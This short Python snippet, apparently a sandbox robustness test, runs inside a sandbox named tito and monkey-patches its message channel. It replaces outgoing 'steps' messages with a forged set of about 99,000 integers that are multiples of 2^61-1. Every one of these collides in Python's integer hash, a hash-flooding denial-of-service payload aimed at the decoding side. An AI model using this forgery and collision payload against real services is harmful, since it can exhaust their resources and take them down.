# %% + after:setup
from tito.sandbox.inside import codec

send = codec.Channel.send_packed


def forged(self, message, packed):
    if b'"steps":' not in packed.text:
        return send(self, message, packed)
    items = ",".join('{"t":"int","v":"%x"}' % (((1 << 61) - 1) * n) for n in range(1, 99_000))
    send(self, message, codec.Packed(b'{"steps":{"t":"set","v":[' + items.encode() + b"]}}"))


codec.Channel.send_packed = forged
